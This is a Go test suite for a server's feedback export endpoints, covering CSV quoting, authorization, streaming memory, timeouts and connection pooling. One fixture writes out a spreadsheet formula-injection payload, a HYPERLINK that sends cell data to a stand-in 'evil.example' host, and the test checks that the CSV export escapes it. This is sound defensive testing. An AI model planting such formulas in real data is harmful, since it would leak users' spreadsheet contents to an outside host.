package graph_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"database/sql"
	"encoding/binary"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"runtime"
	"runtime/debug"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/protoloop/protoloop/ent/schema/gid"
	"github.com/protoloop/protoloop/server/servertest"
)

// getExport GETs an export path with token ("" for none) and returns the
// response, whose body the caller closes.
func getExport(t *testing.T, s *servertest.Server, token, path string) *http.Response {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, s.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { resp.Body.Close() })
	return resp
}

// exportCSV GETs a CSV export that must succeed and returns its records,
// header first.
func exportCSV(t *testing.T, s *servertest.Server, token, path string) [][]string {
	t.Helper()
	resp := getExport(t, s, token, path)
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %d %s", path, resp.StatusCode, body)
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatalf("GET %s: not CSV: %v\n%s", path, err, body)
	}
	return records
}

func TestExportWritesSpreadsheetReadyFiles(t *testing.T) {
	servertest.Run(t, func(t *testing.T, s *servertest.Server) {
		loop := s.NewLoop(t)
		owner, slug := loop.Owner.Token, loop.Workspace.Slug
		tricky := "Zoë said: \"the form\", then, on a new line:\nit's =SUM(A1) broken; ümlaut ✓"
		fb := s.LeaveFeedback(t, owner, loop.Iteration.ID, vars{"kind": "BUG", "body": tricky, "rating": 2, "minutesSavedPerDay": 15})
		plain := s.LeaveFeedback(t, owner, loop.Iteration.ID, nil)
		formula := s.LeaveFeedback(t, owner, loop.Iteration.ID, vars{"body": "=HYPERLINK(\"http://evil.example/?\"&A1)"})
		s.Do(t, owner, `mutation($id: ID!) { vote(feedbackID: $id) { id } }`, vars{"id": fb}).RequireOK(t)
		next := s.NewPublishedIteration(t, owner, loop.Prototype.ID)
		s.Do(t, owner, `mutation($ids: [ID!]!, $it: ID!) { markAddressed(feedbackIDs: $ids, iterationID: $it) { id } }`,
			vars{"ids": []string{fb}, "it": next.ID}).RequireOK(t)

		t.Run("CSV quotes what needs quoting and keeps every column", func(t *testing.T) {
			records := exportCSV(t, s, owner, "/export/"+slug+"/feedback.csv")
			want := []string{"id", "prototype", "iteration", "kind", "status", "rating", "minutes_saved_per_day",
				"author", "votes", "addressed_in", "created_at", "body"}
			if !slices.Equal(records[0], want) {
				t.Fatalf("header %v, want %v", records[0], want)
			}
			if len(records) != 4 {
				t.Fatalf("%d records, want a header and 3 rows", len(records))
			}
			byID := map[string][]string{}
			for _, r := range records[1:] {
				byID[r[0]] = r
			}
			row := byID[fb]
			got := []string{row[0], row[1], row[2], row[3], row[4], row[5], row[6], row[7], row[8], row[9], row[11]}
			wantRow := []string{fb, loop.Prototype.Slug, "1", "BUG", "ADDRESSED", "2", "15", loop.Owner.Name, "1", "2", tricky}
			if !slices.Equal(got, wantRow) {
				t.Errorf("row %q,\nwant %q", got, wantRow)
			}
			if _, err := time.Parse(time.RFC3339, row[10]); err != nil {
				t.Errorf("created_at %q: %v", row[10], err)
			}
			if got := byID[formula][11]; got != `'=HYPERLINK("http://evil.example/?"&A1)` {
				t.Errorf("a body like a formula is %q, want it behind an apostrophe", got)
			}
		})
		t.Run("starts with a BOM only when asked", func(t *testing.T) {
			for path, bom := range map[string]bool{
				"/export/" + slug + "/feedback.csv":       false,
				"/export/" + slug + "/feedback.csv?bom=1": true,
			} {
				resp := getExport(t, s, owner, path)
				body, _ := io.ReadAll(resp.Body)
				if got := bytes.HasPrefix(body, []byte("\xEF\xBB\xBF")); got != bom {
					t.Errorf("%s: BOM %v, want %v", path, got, bom)
				}
				if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
					t.Errorf("%s: Content-Type %q", path, ct)
				}
			}
		})
		t.Run("JSON Lines has one object per feedback", func(t *testing.T) {
			resp := getExport(t, s, owner, "/export/"+loop.Workspace.ID+"/feedback.jsonl")
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %d", resp.StatusCode)
			}
			sc := bufio.NewScanner(resp.Body)
			var ids []string
			for sc.Scan() {
				var row struct {
					ID          string
					Body        string
					Rating      *int
					AddressedIn *int `json:"addressed_in"`
				}
				if err := json.Unmarshal(sc.Bytes(), &row); err != nil {
					t.Fatalf("line %q: %v", sc.Text(), err)
				}
				ids = append(ids, row.ID)
				if row.ID == fb && (row.Body != tricky || row.Rating == nil || *row.Rating != 2 || row.AddressedIn == nil || *row.AddressedIn != 2) {
					t.Errorf("row %+v", row)
				}
				if row.ID == formula && !strings.HasPrefix(row.Body, "=") {
					t.Errorf("JSON changed a body like a formula to %q", row.Body)
				}
				if row.ID == plain && (row.Rating != nil || row.AddressedIn != nil) {
					t.Errorf("row %+v: want null rating and addressed_in", row)
				}
			}
			if slices.Sort(ids); !slices.Equal(ids, slices.Sorted(slices.Values([]string{fb, plain, formula}))) {
				t.Errorf("ids %v, want %s, %s and %s", ids, fb, plain, formula)
			}
		})
	})
}

func TestExportIsAuthorizedLikeTheAPI(t *testing.T) {
	servertest.Run(t, func(t *testing.T, s *servertest.Server) {
		w := newTesterWorld(t, s)
		slug := w.loop.Workspace.Slug
		path := "/export/" + slug + "/feedback.csv"
		onQ := s.LeaveFeedback(t, w.loop.Owner.Token, w.qIteration, nil)

		for _, tc := range []struct {
			name, token, path string
			status            int
		}{
			{"refuses a caller without a token", "", path, http.StatusUnauthorized},
			{"refuses an invalid token", "plt_nonsense", path, http.StatusUnauthorized},
			{"hides a workspace from a non-member", w.other.Owner.Token, path, http.StatusNotFound},
			{"does not know a workspace that does not exist", w.loop.Owner.Token, "/export/no-such-place/feedback.csv", http.StatusNotFound},
			{"serves only feedback.csv and feedback.jsonl", w.loop.Owner.Token, "/export/" + slug + "/feedback.xlsx", http.StatusNotFound},
			{"refuses a bom that is neither 1 nor 0", w.loop.Owner.Token, path + "?bom=yes", http.StatusBadRequest},
		} {
			t.Run(tc.name, func(t *testing.T) {
				resp := getExport(t, s, tc.token, tc.path)
				body, _ := io.ReadAll(resp.Body)
				if resp.StatusCode != tc.status || !bytes.Contains(body, []byte(`"code"`)) {
					t.Errorf("status %d, want %d, with a coded error: %s", resp.StatusCode, tc.status, body)
				}
			})
		}

		t.Run("gives a tester its prototype's feedback, other testers masked", func(t *testing.T) {
			records := exportCSV(t, s, w.ada.token, path)
			authors := map[string]string{}
			for _, r := range records[1:] {
				authors[r[0]] = r[7]
				if r[1] != w.loop.Prototype.Slug {
					t.Errorf("row of prototype %s", r[1])
				}
			}
			if _, ok := authors[onQ]; ok {
				t.Errorf("the tester got feedback on another prototype")
			}
			if len(authors) != 4 {
				t.Errorf("%d rows, want the owner's and three testers' feedback", len(authors))
			}
			if authors[w.ada.feedback] != w.ada.name {
				t.Errorf("its own feedback by %q, want %q", authors[w.ada.feedback], w.ada.name)
			}
			if a := authors[w.bo.feedback]; !isMasked(a) {
				t.Errorf("another tester's feedback by %q, want a masked name", a)
			}
			if a := authors[w.ownerFeedback]; a != w.loop.Owner.Name {
				t.Errorf("the owner's feedback by %q, want %q", a, w.loop.Owner.Name)
			}
		})
		t.Run("gives a member every prototype's feedback with names", func(t *testing.T) {
			records := exportCSV(t, s, w.viewer.Token, path)
			if len(records) != 6 {
				t.Errorf("%d records, want a header and 5 rows", len(records))
			}
			for _, r := range records[1:] {
				if isMasked(r[7]) {
					t.Errorf("a member got a masked name: %q", r[7])
				}
			}
		})
	})
}

// envExportRows sets how many rows TestExportStreamsInConstantMemory
// exports; CI exports fewer than the 100,000 the issue asks to prove.
const envExportRows = "PROTOLOOP_EXPORT_ROWS"

func TestExportStreamsInConstantMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("inserts and exports tens of thousands of rows")
	}
	big := 20_000
	if v := os.Getenv(envExportRows); v != "" {
		n, err := strconv.Atoi(v)
		if err != nil || n < 2000 {
			t.Fatalf("%s=%q: want a number of at least 2000", envExportRows, v)
		}
		big = n
	}
	small := big / 10
	// The two backends run one after the other here: heap samples are
	// the process's, and two exports at once would count each other's.
	for _, b := range servertest.Backends() {
		t.Run(string(b), func(t *testing.T) {
			s := servertest.Start(t, b)
			loop := s.NewLoop(t)
			owner := loop.Owner.Token
			author := firstAuthor(t, s, loop)

			insertFeedback(t, s, loop, author, small-1)
			smallPeak, smallRows, smallBytes := measureExport(t, s, owner, loop.Workspace.Slug)
			began := time.Now()
			insertFeedback(t, s, loop, author, big-small)
			inserted := time.Since(began)
			bigPeak, bigRows, bigBytes := measureExport(t, s, owner, loop.Workspace.Slug)
			t.Logf("%s: inserted %d rows in %v, exported %d in %v", b, big-small, inserted.Round(time.Millisecond), big, (time.Since(began) - inserted).Round(time.Millisecond))

			if smallRows != small || bigRows != big {
				t.Fatalf("exported %d and %d rows, want %d and %d", smallRows, bigRows, small, big)
			}
			t.Logf("%s: %d rows (%.1f MiB) with the heap at most %.1f MiB above its start; %d rows (%.1f MiB): %.1f MiB",
				b, small, mib(smallBytes), mib(smallPeak), big, mib(bigBytes), mib(bigPeak))
			// Building the file in memory would take at least its size;
			// streaming takes about the same for ten times the rows.
			if limit := smallPeak + 8<<20; bigPeak > limit || bigPeak > bigBytes/2 {
				t.Errorf("exporting %d rows grew the heap by %.1f MiB, %d rows by %.1f MiB: memory grows with the rows",
					small, mib(smallPeak), big, mib(bigPeak))
			}
		})
	}
}

func TestExportOutlastsTheStatementTimeout(t *testing.T) {
	// An export is read for as long as the client takes: here a client
	// that reads slowly keeps it going for a few seconds, on a server
	// whose PostgreSQL statement timeout is a quarter of a second. The
	// export reads a page per statement, each well within the timeout,
	// so the file arrives whole; read in one statement under the
	// timeout, PostgreSQL would cancel it and the client would get a
	// truncated transfer. SQLite has no statement timeout: there the test
	// is of a slow client only.
	for _, b := range servertest.Backends() {
		t.Run(string(b), func(t *testing.T) {
			t.Parallel()
			var o servertest.Options
			rows := 5_000
			if b == servertest.Postgres {
				o.DatabaseURL = servertest.PostgresSchema(t) + "&statement_timeout=250"
				rows = 30_000 // far more bytes than the sockets between hold
			}
			s := servertest.StartWith(t, b, o)
			loop := s.NewLoop(t)
			owner := loop.Owner.Token
			author := firstAuthor(t, s, loop)
			insertFeedback(t, s, loop, author, rows-1)

			resp := getExportSlowly(t, s, owner, loop.Workspace.Slug)
			r := csv.NewReader(&slowReader{r: resp.Body, pause: time.Millisecond})
			r.ReuseRecord = true
			n := 0
			for ; ; n++ {
				if _, err := r.Read(); err == io.EOF {
					break
				} else if err != nil {
					t.Fatalf("read export after %d records: %v", n, err)
				}
			}
			if n != rows+1 {
				t.Errorf("the export has %d records, want %d and the header", n, rows)
			}
		})
	}
}

// slowReader is a client that reads 16 KiB at a time, with a pause
// before each read.
type slowReader struct {
	r     io.Reader
	pause time.Duration
}

func (s *slowReader) Read(p []byte) (int, error) {
	time.Sleep(s.pause)
	return s.r.Read(p[:min(len(p), 16<<10)])
}

// getExportSlowly GETs a workspace's CSV export, which must begin, as a
// client with a small receive buffer, so that the sockets between hold a
// small part of the file, not most of it, if the client reads slowly. The
// caller reads the body; it is closed when the test ends.
func getExportSlowly(t *testing.T, s *servertest.Server, token, slug string) *http.Response {
	t.Helper()
	dialer := &net.Dialer{}
	client := &http.Client{Transport: &http.Transport{
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			c, err := dialer.DialContext(ctx, network, addr)
			if err == nil {
				err = c.(*net.TCPConn).SetReadBuffer(32 << 10)
			}
			return c, err
		},
	}}
	req, err := http.NewRequest(http.MethodGet, s.URL+"/export/"+slug+"/feedback.csv", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { resp.Body.Close() })
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("export: status %d", resp.StatusCode)
	}
	return resp
}

func mib(n uint64) float64 { return float64(n) / (1 << 20) }

// firstAuthor leaves one feedback on loop's iteration as its owner and
// returns the participant it was written as: the author insertFeedback
// gives its rows.
func firstAuthor(t *testing.T, s *servertest.Server, loop servertest.Loop) string {
	t.Helper()
	probe := s.LeaveFeedback(t, loop.Owner.Token, loop.Iteration.ID, nil)
	var fb struct {
		Node struct{ Author struct{ ID string } }
	}
	decode(t, s, loop.Owner.Token, `query($id: ID!) { node(id: $id) { ... on Feedback { author { id } } } }`, vars{"id": probe}, &fb)
	return fb.Node.Author.ID
}

// insertFeedback adds n rows of feedback by author to the loop's iteration
// in one statement (the API would take minutes for 100,000), with bodies
// of about 750 bytes.
func insertFeedback(t *testing.T, s *servertest.Server, loop servertest.Loop, author string, n int) {
	t.Helper()
	insertFeedbackWithTail(t, s, loop, author, n, 600)
}

// insertFeedbackWithTail is insertFeedback with bodies that end in tail
// x's.
func insertFeedbackWithTail(t *testing.T, s *servertest.Server, loop servertest.Loop, author string, n, tail int) {
	t.Helper()
	ids := make([]int64, 4)
	for i, s := range []string{loop.Workspace.ID, author, loop.Iteration.ID, loop.Prototype.ID} {
		id, err := gid.Parse(s)
		if err != nil {
			t.Fatal(err)
		}
		ids[i] = int64(id)
	}
	var r [8]byte
	if _, err := rand.Read(r[:]); err != nil {
		t.Fatal(err)
	}
	// IDs from a random base, far enough from the next test's.
	base := int64(gid.Feedback)<<56 | int64(binary.LittleEndian.Uint64(r[:])&(1<<55-1))
	padding := fmt.Sprintf("repeat('x', %d)", tail)
	if s.Backend == servertest.SQLite {
		padding = fmt.Sprintf("printf('%%.%dc', 'x')", tail)
	}
	body := `'Row ' || g || ': the "export", with a comma, spans
two lines, and a long tail, so that streaming and buffering are far apart: ' || ` + padding
	columns := `id, created_at, updated_at, kind, body, status, vote_count, workspace_id, author_id, iteration_id, prototype_id, rating, minutes_saved_per_day`
	values := `%BASE% + g, %NOW%, %NOW%, 'IDEA', ` + body + `, 'OPEN', g % 7, %WS%, %AUTHOR%, %IT%, %PROTO%, (g % 5) + 1, g % 60`
	var query string
	args := []any{base, time.Now().UTC(), ids[0], ids[1], ids[2], ids[3], n}
	if s.Backend == servertest.Postgres {
		query = `INSERT INTO feedbacks (` + columns + `) SELECT ` + values + ` FROM generate_series(1, $7) AS g`
		query = strings.NewReplacer("%BASE%", "$1::bigint", "%NOW%", "$2::timestamptz", "%WS%", "$3::bigint", "%AUTHOR%", "$4::bigint",
			"%IT%", "$5::bigint", "%PROTO%", "$6::bigint").Replace(query)
	} else {
		query = `WITH RECURSIVE seq(g) AS (SELECT 1 UNION ALL SELECT g + 1 FROM seq WHERE g < ?7) INSERT INTO feedbacks (` + columns + `) SELECT ` + values + ` FROM seq`
		query = strings.NewReplacer("%BASE%", "?1", "%NOW%", "?2", "%WS%", "?3", "%AUTHOR%", "?4",
			"%IT%", "?5", "%PROTO%", "?6").Replace(query)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	tx, err := s.DB.SQL.BeginTx(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = tx.Rollback() }()
	if s.Backend == servertest.Postgres {
		// The server's statement timeout is for requests; a test may have
		// made it tiny (TestExportOutlastsTheStatementTimeout).
		if _, err := tx.ExecContext(ctx, "SET LOCAL statement_timeout = 0"); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := tx.ExecContext(ctx, query, args...); err != nil {
		t.Fatalf("insert %d rows of feedback: %v", n, err)
	}
	if err := tx.Commit(); err != nil {
		t.Fatalf("insert %d rows of feedback: %v", n, err)
	}
}

// measureExport streams a CSV export, reading it as a client would, while
// sampling the heap, and returns how far the heap rose above where it
// started, the rows and the bytes.
func measureExport(t *testing.T, s *servertest.Server, token, slug string) (peak uint64, rows int, size uint64) {
	t.Helper()
	// Collect garbage early, so that the heap in use is about what is
	// live: at the default GOGC it may grow to twice that between
	// collections, whatever the export keeps.
	defer debug.SetGCPercent(debug.SetGCPercent(5))
	runtime.GC()
	var start runtime.MemStats
	runtime.ReadMemStats(&start)
	var high atomic.Uint64
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		tick := time.NewTicker(5 * time.Millisecond)
		defer tick.Stop()
		for {
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			if m.HeapInuse > high.Load() {
				high.Store(m.HeapInuse)
			}
			select {
			case <-done:
				return
			case <-tick.C:
			}
		}
	}()
	resp := getExport(t, s, token, "/export/"+slug+"/feedback.csv")
	counted := &countingReader{r: resp.Body}
	r := csv.NewReader(counted)
	r.ReuseRecord = true
	for {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("read export: %v", err)
		}
		if len(rec) != 12 {
			t.Fatalf("a record of %d fields", len(rec))
		}
		rows++
	}
	close(done)
	wg.Wait()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("export: status %d", resp.StatusCode)
	}
	if h := high.Load(); h > start.HeapInuse {
		peak = h - start.HeapInuse
	}
	return peak, rows - 1, counted.n
}

type countingReader struct {
	r io.Reader
	n uint64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += uint64(n)
	return n, err
}

// TestExportsLeaveTheAPIItsConnections holds an export's first read in
// its query (the feedback table locked by a transaction on one of the
// server's connections) on a server whose pool has 4, so that one export
// reads at a time, and asks for four more exports: they wait for
// their turn without taking a connection, so a query of the API still
// answers, then are refused with UNAVAILABLE and a Retry-After. Each would
// otherwise hold a connection in its own blocked query and leave the API
// none. /metrics counts the export under way and the four refused. Once
// the lock is gone, the first export arrives whole and the next one is
// served.
func TestExportsLeaveTheAPIItsConnections(t *testing.T) {
	s := servertest.StartWith(t, servertest.Postgres, servertest.Options{MaxConns: 4})
	loop := s.NewLoop(t)
	owner := loop.Owner.Token
	insertFeedback(t, s, loop, firstAuthor(t, s, loop), 2)
	path := "/export/" + loop.Workspace.Slug + "/feedback.csv"

	lock := lockFeedbacks(t, s)

	type export struct {
		status     int
		retryAfter string
		body       string
	}
	get := func(into chan<- export) {
		req, err := http.NewRequest(http.MethodGet, s.URL+path, nil)
		if err != nil {
			into <- export{body: err.Error()}
			return
		}
		req.Header.Set("Authorization", "Bearer "+owner)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			into <- export{body: err.Error()}
			return
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		into <- export{resp.StatusCode, resp.Header.Get("Retry-After"), string(body)}
	}
	first := make(chan export, 1)
	go get(first)
	waitForMetric(t, s, "protoloop_exports_streaming", 1) // its first read has its turn

	refusals := make(chan export, 4)
	for range 4 {
		go get(refusals)
	}
	time.Sleep(500 * time.Millisecond) // the four are waiting by now
	qctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	resp, err := s.Post(qctx, owner, `query($slug: String!) { workspace(slug: $slug) { name } }`, vars{"slug": loop.Workspace.Slug})
	if err != nil || resp.Err() != nil {
		t.Errorf("a query while exports wait for their turn: %v %v", err, resp)
	}
	// The four are refused after the server's wait for a turn (5 s); an
	// export that took a connection instead waits for the lock.
	refused := time.After(10 * time.Second)
	for range 4 {
		select {
		case r := <-refusals:
			if r.status != http.StatusServiceUnavailable || r.retryAfter == "" || !strings.Contains(r.body, `"code":"UNAVAILABLE"`) {
				t.Errorf("an export beyond the pool's share: status %d, Retry-After %q, body %s; want 503, UNAVAILABLE and a Retry-After", r.status, r.retryAfter, r.body)
			}
		case <-refused:
			t.Fatal("exports beyond the pool's share were not refused: they wait for the locked table, each holding a connection")
		}
	}
	for name, want := range map[string]float64{"protoloop_exports_streaming": 1, "protoloop_exports_refused_total": 4} {
		if got, err := metric(s, name); err != nil || got != want {
			t.Errorf("%s is %v (%v), want %v", name, got, err, want)
		}
	}

	if err := lock.Rollback(); err != nil {
		t.Fatal(err)
	}
	r := <-first
	records, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
	if r.status != http.StatusOK || err != nil || len(records) != 4 {
		t.Fatalf("the first export: status %d, %d records (%v); want the header and 3 rows", r.status, len(records), err)
	}
	if got := exportCSV(t, s, owner, path); len(got) != 4 {
		t.Errorf("an export after the first: %d records, want the header and 3 rows", len(got))
	}
	// A handler ends its turn as it returns, just after its client has
	// read the last byte.
	waitForMetric(t, s, "protoloop_exports_streaming", 0)
}

// TestASlowExportHoldsNoConnection exports more than the sockets between
// hold to a client that stops reading after the first bytes: while the
// server waits for the client, it holds no connection of its pool (and so
// no transaction or snapshot), as an export read in one statement did
// until the client had read the last row. Then the client reads on and
// gets every row once, in order: each prototype's, by slug, in the order
// of (created_at, id); all the inserted rows share one created_at, so
// the pages go on by ID.
func TestASlowExportHoldsNoConnection(t *testing.T) {
	if testing.Short() {
		t.Skip("inserts and exports ten thousand rows")
	}
	servertest.Run(t, func(t *testing.T, s *servertest.Server) {
		loop := s.NewLoop(t)
		owner := loop.Owner.Token
		const rows = 10_000 // 7 MB: more than the sockets between hold
		insertFeedback(t, s, loop, firstAuthor(t, s, loop), rows-1)
		// A prototype whose slug comes first, with one row.
		other := s.NewPrototype(t, owner, loop.Workspace.ID)
		otherIt := s.NewPublishedIteration(t, owner, other.ID)
		early := s.LeaveFeedback(t, owner, otherIt.ID, nil)
		slugs := []string{other.Slug, loop.Prototype.Slug}
		if other.Slug > loop.Prototype.Slug {
			slugs[0], slugs[1] = slugs[1], slugs[0]
		}

		resp := getExportSlowly(t, s, owner, loop.Workspace.Slug)

		// The client reads nothing more: once the sockets are full, the
		// server waits on it, and its pool has no connection in use for
		// a while (pages are read between waits, for a few milliseconds).
		idle := 0
		for deadline := time.Now().Add(20 * time.Second); idle < 20; time.Sleep(10 * time.Millisecond) {
			if s.DB.SQL.Stats().InUse == 0 {
				idle++
			} else {
				idle = 0
			}
			if time.Now().After(deadline) {
				t.Fatalf("the server's pool kept %d connections in use while the export's client did not read", s.DB.SQL.Stats().InUse)
			}
		}

		r := csv.NewReader(resp.Body)
		r.ReuseRecord = true
		if _, err := r.Read(); err != nil {
			t.Fatal(err)
		}
		type place struct {
			slug, created string // created: RFC 3339 in UTC, which orders as text
			id            gid.ID
		}
		var got []place
		seen := map[string]bool{}
		for {
			rec, err := r.Read()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("read export after %d rows: %v", len(got), err)
			}
			if seen[rec[0]] {
				t.Fatalf("row %d: %s again", len(got), rec[0])
			}
			seen[rec[0]] = true
			id, err := gid.Parse(rec[0])
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, place{rec[1], rec[10], id})
		}
		if len(got) != rows+1 || !seen[early] {
			t.Fatalf("%d rows (the other prototype's among them: %v), want %d", len(got), seen[early], rows+1)
		}
		if got[0].slug != slugs[0] || got[len(got)-1].slug != slugs[1] {
			t.Errorf("prototypes from %s to %s, want %s to %s", got[0].slug, got[len(got)-1].slug, slugs[0], slugs[1])
		}
		for i := 1; i < len(got); i++ {
			if a, b := got[i-1], got[i]; b.slug < a.slug || b.slug == a.slug && b.created < a.created {
				t.Fatalf("row %d %v after %v: out of order", i, b, a)
			}
		}
		// The rows insertFeedback wrote share one created_at, after their
		// prototype's first (firstAuthor's): they follow by ID.
		first := slices.IndexFunc(got, func(p place) bool { return p.slug == loop.Prototype.Slug })
		inserted := got[first+1 : first+rows]
		for i := 1; i < len(inserted); i++ {
			if inserted[i].id <= inserted[i-1].id {
				t.Fatalf("inserted row %d %v after %v: out of order", i, inserted[i], inserted[i-1])
			}
		}
	})
}

// TestExportPagesStopAtAMegabyte exports rows of 10 KB, so that a page
// ends at its size in bytes (1 MiB, about a hundred of these rows) long
// before its 500 rows: every row arrives once all the same.
func TestExportPagesStopAtAMegabyte(t *testing.T) {
	servertest.Run(t, func(t *testing.T, s *servertest.Server) {
		loop := s.NewLoop(t)
		owner := loop.Owner.Token
		const rows = 400 // 4 MB: four pages at least
		insertFeedbackWithTail(t, s, loop, firstAuthor(t, s, loop), rows-1, 9_800)
		records := exportCSV(t, s, owner, "/export/"+loop.Workspace.Slug+"/feedback.csv")
		seen := map[string]bool{}
		for _, r := range records[1:] {
			seen[r[0]] = true
		}
		if len(records) != rows+1 || len(seen) != rows {
			t.Errorf("%d records, %d rows of their own, want the header and %d", len(records), len(seen), rows)
		}
	})
}

// TestAnExportSkipsPrototypesWithoutFeedback counts the statements of an
// export before and after five prototypes without feedback join the
// workspace: the same, where each would cost a page of its own.
func TestAnExportSkipsPrototypesWithoutFeedback(t *testing.T) {
	servertest.Run(t, func(t *testing.T, s *servertest.Server) {
		loop := s.NewLoop(t)
		owner := loop.Owner.Token
		s.LeaveFeedback(t, owner, loop.Iteration.ID, nil)
		path := "/export/" + loop.Workspace.Slug + "/feedback.csv"
		exportCSV(t, s, owner, path) // the token's identity cached
		statements := func() int64 {
			before := s.Statements()
			if got := exportCSV(t, s, owner, path); len(got) != 2 {
				t.Fatalf("%d records, want the header and 1 row", len(got))
			}
			return s.Statements() - before
		}
		alone := statements()
		for range 5 {
			s.NewPrototype(t, owner, loop.Workspace.ID)
		}
		if withEmpty := statements(); withEmpty != alone {
			t.Errorf("an export ran %d statements with five prototypes without feedback, %d without them", withEmpty, alone)
		}
	})
}

// TestAnExportThatCannotBeginSaysWhy holds an export's first read on a
// locked table past PostgreSQL's statement timeout: nothing has been sent
// yet, so the export answers as the API would, 503 with TIMEOUT, not a
// 500 or a truncated file.
func TestAnExportThatCannotBeginSaysWhy(t *testing.T) {
	s := servertest.StartWith(t, servertest.Postgres, servertest.Options{
		DatabaseURL: servertest.PostgresSchema(t) + "&statement_timeout=250",
	})
	loop := s.NewLoop(t)
	s.LeaveFeedback(t, loop.Owner.Token, loop.Iteration.ID, nil)
	lockFeedbacks(t, s)
	resp := getExport(t, s, loop.Owner.Token, "/export/"+loop.Workspace.Slug+"/feedback.csv")
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(string(body), `"code":"TIMEOUT"`) {
		t.Errorf("an export whose first read timed out: HTTP %d %s, want 503 and TIMEOUT", resp.StatusCode, body)
	}
}

// lockFeedbacks locks the feedback table in a transaction on one of the
// server's connections, until the caller rolls it back or the test ends.
func lockFeedbacks(t *testing.T, s *servertest.Server) *sql.Tx {
	t.Helper()
	ctx := context.Background()
	lock, err := s.DB.SQL.BeginTx(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = lock.Rollback() })
	if _, err := lock.ExecContext(ctx, "LOCK TABLE feedbacks IN ACCESS EXCLUSIVE MODE"); err != nil {
		t.Fatal(err)
	}
	return lock
}

// waitForMetric waits, at most a few seconds, for the server's metric
// name to reach want.
func waitForMetric(t *testing.T, s *servertest.Server, name string, want float64) {
	t.Helper()
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		got, err := metric(s, name)
		if err == nil && got == want {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s is %v (%v), want %v", name, got, err, want)
		}
	}
}
